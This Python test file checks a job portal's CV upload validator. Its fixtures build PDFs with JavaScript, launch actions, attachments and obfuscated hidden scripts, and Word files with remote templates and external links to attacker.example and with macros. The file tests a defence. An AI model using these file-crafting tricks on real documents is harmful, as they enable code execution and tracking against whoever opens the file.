"""CVs that would run something or fetch something when opened are refused with a message saying what and why."""

from __future__ import annotations

import io
import re
import zipfile
import zlib

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from portal.cvs import validation
from portal.cvs.validation import UploadRejected, inspect_upload
from tests import test_cvs
from tests.cv_samples import GOOD_CV_LINES, docx_with_text, pdf_with_text
from tests.test_cvs import document_ids, upload

people = test_cvs.people  # the same people as the other CV tests


def refusal(data: bytes) -> str:
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(data)
    return caught.value.message


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _clean_pdf_writer() -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_with_text(GOOD_CV_LINES))))


def _with_open_action(action: dict) -> bytes:
    writer = _clean_pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    return _written(writer)


def _hand_written_pdf(catalog_extra: bytes) -> bytes:
    """A one-page PDF written byte by byte, so that names appear exactly as given (escapes included)."""
    content = b"BT /F1 11 Tf 50 780 Td (Priya Raman, ML engineer: Python, HTML/JavaScript, /Launch) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
        b"/Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref_at = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref_at))
    return out.getvalue()


def _pdf_with_action_in_object_stream() -> bytes:
    """A PDF 1.5 whose opening action (JavaScript) sits inside a compressed object stream, found only through the
    cross-reference stream: none of its names appear in the raw bytes."""
    content = b"BT /F1 11 Tf 50 780 Td (Priya Raman) Tj ET"
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"6 0 "
    packed = zlib.compress(header + action)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
        b"/Contents 4 0 R >>",
        4: b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        7: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(packed))
        + packed
        + b"\nendstream",
    }
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    offsets[8] = out.tell()
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    for number in range(1, 9):
        if number == 6:
            rows.append(b"\x02" + (7).to_bytes(4, "big") + (0).to_bytes(2, "big"))
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big"))
    table = b"".join(rows)
    out.write(
        b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[8])
    return out.getvalue()


def _docx_changed(extra: dict[str, bytes] | None = None, replace: dict[str, bytes] | None = None) -> bytes:
    """A real python-docx CV with parts added or replaced."""
    source = zipfile.ZipFile(io.BytesIO(docx_with_text(GOOD_CV_LINES)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in source.infolist():
            archive.writestr(entry.filename, (replace or {}).get(entry.filename, source.read(entry)))
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def _with_relationship(part_rels: str, rel_type: str, target: str) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(docx_with_text(GOOD_CV_LINES)))
    relationship = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{rel_type}" Target="{target}" TargetMode="External"/>'
    ).encode()
    if part_rels in source.namelist():
        xml = source.read(part_rels).replace(b"</Relationships>", relationship + b"</Relationships>")
        return _docx_changed(replace={part_rels: xml})
    xml = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + relationship
        + b"</Relationships>"
    )
    return _docx_changed(extra={part_rels: xml})


# PDF ------------------------------------------------------------------------------------------------------------


def test_a_clean_pdf_that_mentions_javascript_in_its_text_is_accepted():
    inspected = inspect_upload(_hand_written_pdf(b""))
    assert "HTML/JavaScript" in inspected.text
    assert inspect_upload(pdf_with_text(GOOD_CV_LINES)).word_count > 100


def test_a_pdf_running_javascript_when_opened_is_refused():
    data = _with_open_action(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    assert refusal(data) == validation.PDF_SCRIPT


def test_a_pdf_opening_with_a_launch_action_is_refused():
    data = _with_open_action({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc")})
    assert refusal(data) == validation.PDF_LAUNCH


def _with_document_javascript() -> bytes:
    """A PDF whose name tree holds document-level JavaScript, run by viewers when the file opens."""
    writer = _clean_pdf_writer()
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("this.print();")}
    )
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("print"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return _written(writer)


def test_a_pdf_with_document_javascript_is_refused():
    assert refusal(_with_document_javascript()) == validation.PDF_SCRIPT


def test_a_pdf_with_a_bare_js_entry_is_refused():
    assert refusal(_hand_written_pdf(b"/AA << /WC << /JS (app.alert\\(1\\)) >> >>")) == validation.PDF_SCRIPT


def test_a_pdf_with_an_attached_file_is_refused():
    writer = _clean_pdf_writer()
    writer.add_attachment("payload.exe", b"MZ not really a program")
    assert refusal(_written(writer)) == validation.PDF_EMBEDDED_FILES


def test_a_pdf_with_a_bare_embedded_file_stream_is_refused():
    assert refusal(_hand_written_pdf(b"/Extra << /Type /EmbeddedFile >>")) == validation.PDF_EMBEDDED_FILES


def test_a_pdf_with_rich_media_is_refused():
    assert refusal(_hand_written_pdf(b"/Extra << /Subtype /RichMedia >>")) == validation.PDF_RICH_MEDIA


def test_a_pdf_hiding_javascript_behind_hex_escaped_names_is_refused():
    data = _hand_written_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")
    assert b"JavaScript" not in data.split(b"stream")[0]
    assert refusal(data) == validation.PDF_SCRIPT


def test_a_pdf_hiding_javascript_in_a_compressed_object_stream_is_refused():
    data = _pdf_with_action_in_object_stream()
    assert b"JavaScript" not in data and b"/JS" not in data
    assert PdfReader(io.BytesIO(data)).trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"
    assert refusal(data) == validation.PDF_SCRIPT


# Word -----------------------------------------------------------------------------------------------------------


def test_a_clean_docx_with_hyperlinks_is_accepted():
    data = docx_with_text(GOOD_CV_LINES, links={"GitHub": "https://github.com/priyaraman"})
    assert "https://github.com/priyaraman" in inspect_upload(data).links


def test_a_docx_with_a_remote_template_is_refused():
    data = _with_relationship("word/_rels/settings.xml.rels", "attachedTemplate", "http://attacker.example/t.dotm")
    assert refusal(data) == validation.DOCX_REMOTE_TEMPLATE


def test_a_docx_with_any_other_external_relationship_is_refused():
    data = _with_relationship("word/_rels/document.xml.rels", "image", "file://attacker.example/share/x.png")
    assert refusal(data) == validation.DOCX_EXTERNAL_CONTENT


def test_a_docx_with_an_external_relationship_in_the_package_rels_is_refused():
    data = _with_relationship("_rels/.rels", "oleObject", "http://attacker.example/o.bin")
    assert refusal(data) == validation.DOCX_EXTERNAL_CONTENT


def test_a_docx_carrying_a_vba_project_is_refused():
    assert refusal(_docx_changed(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"})) == validation.DOCX_MACROS


def test_a_docm_declared_macro_enabled_is_refused():
    source = zipfile.ZipFile(io.BytesIO(docx_with_text(GOOD_CV_LINES)))
    types = source.read("[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert b"macroEnabled" in types
    assert refusal(_docx_changed(replace={"[Content_Types].xml": types})) == validation.DOCX_MACROS


def test_a_docx_with_a_broken_relationships_part_is_refused_as_damaged():
    data = _docx_changed(extra={"word/_rels/footer9.xml.rels": b"<Relationships><not xml"})
    assert refusal(data) == validation.DOCX_DAMAGED


# Through the page -----------------------------------------------------------------------------------------------


def test_the_refusal_is_shown_next_to_the_file_field_and_nothing_is_stored(app, people, auth, client):
    auth.login("sam@example.org")
    response = upload(client, _with_document_javascript(), "cv.pdf")
    html = response.get_data(as_text=True)
    assert "This PDF contains JavaScript" in html
    assert re.search(r'id="file-error"[^>]*>.*?This PDF contains JavaScript', html, re.DOTALL), html
    assert document_ids(app) == []
